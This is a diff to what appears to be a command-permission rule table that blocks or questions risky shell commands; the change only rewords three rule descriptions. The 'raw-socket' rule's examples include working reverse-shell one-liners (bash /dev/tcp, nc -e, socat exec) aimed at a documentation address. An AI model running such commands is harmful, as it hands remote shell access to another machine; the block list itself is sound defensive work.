@@ -65,7 +65,7 @@ RULES = (
     Rule(
         "raw-socket",
         Decision.DENY,
-        "ties a shell or a file descriptor to a connection",
+        "connects a shell or a file descriptor to the network",
         _socket,
         ("bash -i >& /dev/tcp/192.0.2.1/4444 0>&1", "nc -e /bin/sh 192.0.2.1 4444", "socat tcp:192.0.2.1:1 exec:sh"),
         ("cat < /dev/null", "nc -z localhost 8000", "echo /dev/tcp/a/1"),
@@ -73,7 +73,7 @@ RULES = (
     Rule(
         "network",
         Decision.ASK,
-        "talks to another machine",
+        "connects to another machine",
         _connects,
         (
             "curl https://example.com",
@@ -100,7 +100,7 @@ RULES = (
     Rule(
         "keys",
         Decision.ASK,
-        "makes or spreads keys for other machines",
+        "creates or copies keys for other machines",
         always,
         ("ssh-copy-id host", "ssh-keyscan host"),
         ("ls ssh-copy-id",),
